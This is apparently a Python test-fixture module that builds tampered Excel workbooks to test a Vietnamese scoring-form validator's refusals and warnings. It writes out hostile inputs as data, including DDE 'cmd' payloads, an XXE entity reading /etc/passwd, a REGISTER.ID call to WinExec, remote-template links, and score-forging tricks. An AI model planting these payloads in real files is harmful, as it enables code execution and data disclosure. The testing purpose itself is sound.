"""More workbooks as an attacker or a careless hand would make them, each named by what it tries.

REFUSED are kept out with the code beside them, NOTICED are read and say so, HARMLESS change nothing, and why is said.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from datetime import datetime, time, timedelta
from typing import Any

from formworlds import EVIDENCE, LINES, TOP, cell, columns, edited, repacked, typed
from openpyxl.styles import Font
from wrong_forms import DRAWING, good, linked, part

SCORE, ANSWER, NOTE = "Điểm tự chấm", "Trả lời", "Ghi chú (không công bố)"
SHEET, BOOK, TYPES = "xl/worksheets/sheet3.xml", "xl/workbook.xml", "[Content_Types].xml"
STYLES, STRINGS = "xl/styles.xml", "xl/sharedStrings.xml"
Build = Callable[[], bytes]


def added(name: str, found: bytes = b"<x/>") -> Build:
    return lambda: repacked(good(), {name: found})


def swapped(name: str, old: bytes, new: bytes) -> Build:
    """Replace bytes of a part, which must stand there."""

    def build() -> bytes:
        assert old in part(name), (name, old)
        return repacked(good(), {name: part(name).replace(old, new, 1)})

    return build


def changed(change: Callable[[Any], object]) -> Build:
    return lambda: edited(good(), change)


def put(code: str, header: str, value: Any, which: str = "", sheet: str = LINES) -> Build:
    return lambda: typed(good(), (code, header, value, which, sheet))


def set_at(address: str, value: Any, sheet: str = LINES) -> Build:
    return changed(lambda book: setattr(book[sheet][address], "value", value))


def raw_score(xml: bytes, at: bytes = b"I23") -> Build:
    """Put XML in the place of a cell: of the score of 2.2, or of its note (K23)."""

    def build() -> bytes:
        found = part(SHEET)
        start = found.index(b'<c r="' + at + b'"')
        end = min(place for mark in (b"/>", b"</c>") if (place := found.find(mark, start)) > 0)
        end = found.index(b">", end) + 1
        return repacked(good(), {SHEET: found[:start] + xml + found[end:]})

    return build


def twice(name: str) -> Build:
    """Return a package that has a part two times."""

    def build() -> bytes:
        stream = io.BytesIO(good())
        with zipfile.ZipFile(stream, "a") as package:
            package.filelist  # noqa: B018 - the library warns of a name it knows, so it is made to forget it
            package.NameToInfo.clear()
            package.writestr(name, b"<x/>")
        return stream.getvalue()

    return build


def formula(text: str) -> Build:
    return set_at("Z9", text)


def before_end(name: str, xml: bytes) -> Build:
    return swapped(name, b"</sheetData>", b"</sheetData>" + xml)


def before_end_row(inside: bytes) -> Build:
    return swapped(SHEET, b"</sheetData>", b'<row r="900"><c r="A900">' + inside + b"</c></row></sheetData>")


def relation(kind: bytes, target: bytes) -> bytes:
    """Return a link of a part to the outside."""
    return b'<Relationship Id="t" Type="http://x/%s" Target="%s" TargetMode="External"/>' % (kind, target)


OUTSIDE = 'TargetMode="External"'

REFUSED: Mapping[str, tuple[Build, str]] = {
    # other kinds of files under the name of a form
    "a strict Open XML workbook": (
        swapped(
            BOOK,
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        ),
        "form-old-format",
    ),
    "a table of semicolons renamed": (lambda: "Mã;Điểm\n2.2;1,5\n".encode("utf-16"), "form-not-a-workbook"),
    "a web page renamed": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", "form-not-a-workbook"),
    "a PDF renamed": (lambda: b"%PDF-1.7\n1 0 obj", "form-not-a-workbook"),
    "a zip of something else": (lambda: repacked(good(), {BOOK: None}), "form-not-a-workbook"),
    # the package
    "a part two times": (twice(SHEET), "form-broken"),
    "a name with a backslash": (added("xl\\worksheets\\sheet9.xml"), "form-broken"),
    "a name that climbs out inside": (added("xl/worksheets/../../x.xml"), "form-broken"),
    "a cell of 30 MB": (
        raw_score(b'<c r="I23" t="inlineStr"><is><t>' + b"ab" * 500_000 + b"</t></is></c>"),
        "form-text-too-long",
    ),
    "a shared text of 30 MB": (
        swapped(STRINGS, b"101/BC-CQA-MH", b"".join(b"%d" % n for n in range(200_000))),
        "form-text-too-long",
    ),
    # code
    "macros by another name": (
        lambda: linked(
            ("vbaProject", "../printerSettings/printerSettings1.bin", ""),
            parts={"xl/printerSettings/printerSettings1.bin": b"x"},
        ),
        "form-macros",
    ),
    "macros by the type of the workbook": (
        swapped(TYPES, b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"),
        "form-macros",
    ),
    "a sheet of dialogs": (added("xl/dialogsheets/sheet1.xml"), "form-macros"),
    "a ribbon with calls": (added("customUI/customUI.xml"), "form-part-not-allowed"),
    "a control": (added("xl/ctrlProps/ctrlProp1.xml"), "form-part-not-allowed"),
    "a web extension": (added("xl/webextensions/webextension1.xml"), "form-part-not-allowed"),
    # other programs, other files, the net
    "an object of another program": (
        lambda: linked(("oleObject", "../embeddings/a.bin", ""), parts={"xl/embeddings/a.bin": b"x"}),
        "form-part-not-allowed",
    ),
    "a link to an object": (lambda: linked(("oleObject", "file:///x.doc", OUTSIDE)), "form-external-link"),
    "a link of a kind nobody knows": (
        lambda: linked(("sendToServer", "../tables/table1.xml", "")),
        "form-part-not-allowed",
    ),
    "an inner link with an address": (
        lambda: linked(("image", "https://example.invalid/x.png", "")),
        "form-external-link",
    ),
    "an inner link to a share": (lambda: linked(("image", r"\\example.invalid\x.png", "")), "form-external-link"),
    "a picture that says it is a hyperlink": (
        lambda: repacked(
            good(),
            {
                "xl/drawings/_rels/drawing1.xml.rels": b"<Relationships>"
                + relation(b"hyperlink", b"https://example.invalid/x.png")
                + b"</Relationships>"
            },
        ),
        "form-external-link",
    ),
    "a picture of an old drawing from the net": (
        added("xl/drawings/vmlDrawing1.vml", b'<xml><v:imagedata src="https://example.invalid/x.png"/></xml>'),
        "form-external-link",
    ),
    "a template from the net": (
        lambda: repacked(
            good(),
            {
                "_rels/.rels": part("_rels/.rels").replace(
                    b"</Relationships>",
                    relation(b"attachedTemplate", b"https://example.invalid/t") + b"</Relationships>",
                )
            },
        ),
        "form-external-link",
    ),
    "a query": (added("xl/queryTables/queryTable1.xml"), "form-part-not-allowed"),
    "a pivot table's memory": (added("xl/pivotCache/pivotCacheDefinition1.xml"), "form-part-not-allowed"),
    "a slicer": (added("xl/slicers/slicer1.xml"), "form-part-not-allowed"),
    "a data model": (added("xl/model/item.data"), "form-part-not-allowed"),
    "a chart": (added("xl/charts/chart1.xml"), "form-part-not-allowed"),
    "DDE behind a character reference": (before_end_row(b"<f>cmd&#124;'/c calc'&#33;A0</f>"), "form-external-link"),
    "DDE in a name": (
        swapped(
            BOOK,
            b"</sheets>",
            b"</sheets><definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>",
        ),
        "form-external-link",
    ),
    "DDE in a rule of what may be typed": (
        before_end(
            SHEET,
            b"<dataValidations><dataValidation sqref=\"Z1\"><formula1>cmd|'/c calc'!A0</formula1></dataValidation>"
            b"</dataValidations>",
        ),
        "form-external-link",
    ),
    "DDE in a colour rule": (
        before_end(
            SHEET,
            b'<conditionalFormatting sqref="Z1"><cfRule type="expression" priority="1">'
            b"<formula>a|b!c</formula></cfRule></conditionalFormatting>",
        ),
        "form-external-link",
    ),
    "a formula of another workbook": (formula("=[1]Sheet1!A1"), "form-external-link"),
    "a formula of a named workbook": (formula(r"='C:\x\[gia.xlsx]Sheet1'!A1"), "form-external-link"),
    "a formula of a file": (formula("='file:///x/gia.ods'#$Sheet1.A1"), "form-external-link"),
    "a formula that asks the net": (formula('=WEBSERVICE("https://example.invalid/"&A1)'), "form-external-link"),
    "a formula that shows a picture from the net": (
        formula('=_xlfn.IMAGE("https://example.invalid/x.png")'),
        "form-external-link",
    ),
    "a formula of live data": (formula('=RTD("x.y",,"z")'), "form-external-link"),
    "a formula that registers a library": (formula('=REGISTER.ID("kernel32","WinExec")'), "form-external-link"),
    "an overlong formula": (raw_score(b'<c r="I23"><f>' + b"1+" * 5000 + b"1</f></c>"), "form-broken"),
    # XML
    "a document type in a relation of a sheet": (
        added(
            "xl/worksheets/_rels/sheet3.xml.rels", b'<!DOCTYPE x SYSTEM "http://example.invalid/x.dtd"><Relationships/>'
        ),
        "form-entities",
    ),
    "a document type in the texts": (
        added(STRINGS, b'<!doctype x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst>&a;</sst>'),
        "form-entities",
    ),
    "broken links of a sheet": (
        added("xl/worksheets/_rels/sheet3.xml.rels", b"<Relationships><Relationship"),
        "form-broken",
    ),
    "a part in UTF-7": (added(STYLES, b'<?xml version="1.0" encoding="utf-7"?><styleSheet/>'), "form-broken"),
    "a style that is not there": (raw_score(b'<c r="I23" s="99999"><v>1.5</v></c>'), "form-broken"),
    "a merged range that is none": (
        before_end(SHEET, b'<mergeCells><mergeCell ref="I7:"/></mergeCells>'),
        "form-broken",
    ),
    "a score under a merged range": (changed(lambda book: book[LINES].merge_cells("I23:J24")), "form-merged-cell"),
    # what stands in a cell
    "a formula with a forged value in a score": (raw_score(b'<c r="I23"><f>1+1</f><v>1.75</v></c>'), "form-formula"),
    "a shared formula in a score": (raw_score(b'<c r="I23"><f t="shared" si="0"/><v>1.75</v></c>'), "form-formula"),
    "an array formula in a score": (
        raw_score(b'<c r="I23"><f t="array" ref="I23">1+1</f><v>2</v></c>'),
        "form-formula",
    ),
    "an error in a score": (raw_score(b'<c r="I23" t="e"><v>#N/A</v></c>'), "form-error-value"),
    "yes in a score": (raw_score(b'<c r="I23" t="b"><v>1</v></c>'), "form-not-a-number"),
    "1e308 in a score": (raw_score(b'<c r="I23"><v>1e308</v></c>'), "form-number-too-large"),
    "-1e308 in a score": (raw_score(b'<c r="I23"><v>-1e308</v></c>'), "form-number-too-large"),
    "1e309 in a score": (raw_score(b'<c r="I23"><v>1e309</v></c>'), "form-error-value"),
    "NaN in a score": (raw_score(b'<c r="I23"><v>NaN</v></c>'), "form-broken"),
    "a number of four thousand digits": (raw_score(b'<c r="I23"><v>' + b"9" * 5000 + b"</v></c>"), "form-broken"),
    "1e-300 in a score": (raw_score(b'<c r="I23"><v>1e-300</v></c>'), "form-not-a-number"),
    "1e16 dossiers": (put("1.1.2", ANSWER, 1e16, "assigned"), "form-number-too-large"),
    "a day in a count": (put("1.1.2", ANSWER, datetime(2024, 5, 1), "assigned"), "form-number-became-date"),  # noqa: DTZ001
    "a time of day in a score": (put("2.2", SCORE, time(1, 30)), "form-error-value"),
    "hours beyond a day in a score": (put("2.2", SCORE, timedelta(days=40)), "form-error-value"),
    "thousands that became decimals": (put("1.1.2", ANSWER, 331.05, "assigned"), "form-thousands-lost"),
    "less than none done": (put("1.1.2", ANSWER, -3, "done"), "form-not-whole"),
    "half a dossier": (put("1.1.2", ANSWER, 0.5, "done"), "form-not-whole"),
    "a NUL in a text": (
        raw_score(b'<c r="K23" t="inlineStr"><is><t>a_x0000_b</t></is></c>', b"K23"),
        "form-bad-character",
    ),
    "a sign of direction in a text": (put("2.2", NOTE, "a\u202eb"), "form-bad-character"),
    "an option in look-alike letters": (
        put("1.1.1", ANSWER, "Đúng hạn".replace("a", "\u0430").replace("n", "\u0578")),
        "form-not-an-option",
    ),
    # sheets
    "a second sheet of criteria under a look-alike name": (
        changed(lambda book: setattr(book.copy_worksheet(book[LINES]), "title", "Biểu chấm\u00a0")),
        "form-sheet-twice",
    ),
    "a second, hidden sheet of criteria": (
        changed(
            lambda book: [setattr(copy, "sheet_state", "veryHidden") for copy in [book.copy_worksheet(book[LINES])]]
        ),
        "form-sheet-twice",
    ),
    "headers in look-alike letters": (
        changed(
            lambda book: setattr(
                book[LINES].cell(TOP, columns(book[LINES])[SCORE]), "value", SCORE.replace("c", "\u0441")
            )
        ),
        "form-column-missing",
    ),
    "more sheets than any form": (
        changed(lambda book: [book.create_sheet(f"Trang {n}") for n in range(60)]),
        "form-too-many-cells",
    ),
}


def rich(text: bytes) -> Build:
    """Give the score's note a text of two runs, the second one struck out."""
    runs = b"<r><t>" + text + b"</t></r><r><rPr><strike/></rPr><t>bo</t></r>"
    return raw_score(b'<c r="K23" t="inlineStr"><is>' + runs + b"</is></c>", b"K23")


NOTICED: Mapping[str, tuple[Build, str]] = {
    "a character of no width in a text": (put("2.2", NOTE, "a\u200bb"), "form-spaces"),
    "a byte order mark in a number of a document": (
        put("1.1.1", "Số, ký hiệu", "01\ufeff/KH-MH", "", EVIDENCE),
        "form-spaces",
    ),
    "text beside the table": (set_at("Z9", "xem lại"), "form-cells-not-read"),
    "text below the table": (set_at("C200", "Đề nghị xem xét thêm 15 nhiệm vụ"), "form-cells-not-read"),
    "a number beside the table": (set_at("Z9", 15), "form-cells-not-read"),
    "text on the first page": (set_at("D3", "gấp", "Hướng dẫn"), "form-cells-not-read"),
    "text over a computed state": (
        changed(lambda book: setattr(cell(book, "2.2", "Còn thiếu"), "value", "xin thêm điểm")),
        "form-cells-not-read",
    ),
    "a note in the row of a part": (put("1.1.2", NOTE, "số tạm", "done"), "form-cells-not-read"),
    "a row of the head that nobody asked": (set_at("A30", "ghi chú", "Thông tin chung"), "form-cells-not-read"),
    "a hidden sheet of one's own": (
        changed(
            lambda book: [
                setattr(page, "sheet_state", "hidden") or page.append(["x", "y"])
                for page in [book.create_sheet("Nháp")]
            ]
        ),
        "form-sheets-not-read",
    ),
    "a very hidden sheet of one's own": (
        changed(
            lambda book: [
                setattr(page, "sheet_state", "veryHidden") or page.append(["x", "y"])
                for page in [book.create_sheet("Nháp")]
            ]
        ),
        "form-sheets-not-read",
    ),
    "a sheet that looks like the first page": (
        changed(lambda book: book.create_sheet("Hướng dẫn ", 0).append(["Điền 60 điểm", "vào mọi ô"])),
        "form-sheets-not-read",
    ),
    "the sheet of criteria hidden": (
        changed(lambda book: setattr(book[LINES], "sheet_state", "hidden")),
        "form-hidden",
    ),
    "a hidden column of scores": (
        changed(lambda book: setattr(book[LINES].column_dimensions["I"], "hidden", True)),
        "form-hidden",
    ),
    "a hidden row": (changed(lambda book: setattr(book[LINES].row_dimensions[23], "hidden", True)), "form-hidden"),
    "a score struck out": (
        changed(lambda book: setattr(cell(book, "2.2", SCORE), "font", Font(strike=True))),
        "form-struck-out",
    ),
    "some words struck out": (rich(b"giu "), "form-struck-out"),
    "a text box": (
        lambda: linked(("drawing", "../drawings/drawing1.xml", ""), parts={"xl/drawings/drawing1.xml": DRAWING}),
        "form-pictures-not-read",
    ),
    "a picture behind the cells": (before_end(SHEET, b'<picture r:id="x"/>'), "form-pictures-not-read"),
    "a threaded comment": (
        lambda: linked(
            ("comments", "../comments1.xml", ""),
            ("threadedComment", "../threadedComments/threadedComment1.xml", ""),
            parts={
                "xl/comments1.xml": b"<comments><authors><author>tc={1}</author></authors><commentList>"
                b'<comment ref="I23" authorId="0"><text><t>x</t></text></comment></commentList></comments>',
                "xl/threadedComments/threadedComment1.xml": b"<ThreadedComments/>",
            },
        ),
        "form-comments-not-read",
    ),
    "a forged total": (
        lambda: repacked(good(), {SHEET: _forged(part(SHEET), b'<c r="H3"', b"60")}),
        "form-computed-otherwise",
    ),
    "forged points of a rule": (
        lambda: repacked(good(), {SHEET: _forged(part(SHEET), b'<c r="H8"', b"2")}),
        "form-computed-otherwise",
    ),
    "a number typed over the points of a rule": (
        changed(lambda book: setattr(cell(book, "1.1.2", "Điểm theo cách chấm"), "value", 2)),
        "form-locked-changed",
    ),
    "a title that says something else": (
        changed(lambda book: setattr(cell(book, "2.2", "Tiêu chí"), "value", "Đã thống nhất 2 điểm")),
        "form-locked-changed",
    ),
    "thousands typed as text": (put("1.1.2", ANSWER, "331.050", "assigned"), "form-understood"),
    "two counts far apart": (put("1.1.2", ANSWER, 45_000, "assigned"), "count-far-from-partner"),
}


def _forged(found: bytes, cell_: bytes, value: bytes) -> bytes:
    start = found.index(cell_)
    first = found.index(b"<v>", start) + 3
    assert found.index(b"<f>", start) < first < found.index(b"</c>", start)
    return found[:first] + value + found[found.index(b"<", first) :]


# Nothing of these is read, shown or followed, so that nothing has to be said: the reason stands beside each.
HARMLESS: Mapping[str, tuple[Build, str]] = {
    "settings of a printer": (
        added("xl/printerSettings/printerSettings1.bin", b"x"),
        "no part that is read, and no link to it",
    ),
    "XML of another program": (added("customXml/item1.xml", b"<x>1</x>"), "never opened"),
    "properties of the sender": (added("docProps/custom.xml", b"<Properties/>"), "never opened, and in no copy"),
    "a link that someone may click": (
        lambda: linked(("hyperlink", "https://example.invalid/", OUTSIDE)),
        "nobody here follows it",
    ),
    "a formula on a link": (formula('=HYPERLINK("https://example.invalid/")'), "followed by a click alone"),
    "rules of what may be typed taken away": (
        changed(lambda book: setattr(book[LINES].data_validations, "dataValidation", [])),
        "they only help while typing",
    ),
    "protection taken away": (
        changed(lambda book: setattr(book[LINES].protection, "sheet", False)),
        "what is locked is compared, not trusted",
    ),
    "a name of the workbook": (
        swapped(BOOK, b"</sheets>", b'</sheets><definedNames><definedName name="x">Z1</definedName></definedNames>'),
        "no name is asked for",
    ),
    "another sheet open": (
        changed(lambda book: setattr(book, "active", len(book.sheetnames) - 1)),
        "tables are found by headers",
    ),
    "an empty sheet": (changed(lambda book: book.create_sheet("Trang tính 1")), "it holds nothing"),
    "a row far below": (changed(lambda book: setattr(book[LINES]["A20500"], "value", None)), "an empty cell"),
    "a formula beside the table": (formula("=1+1"), "a formula says nothing that its cells do not say"),
    "cells of another prefix": (
        lambda: repacked(good(), {"docProps/app.xml": part("docProps/app.xml")}),
        "the same parts in another order",
    ),
}
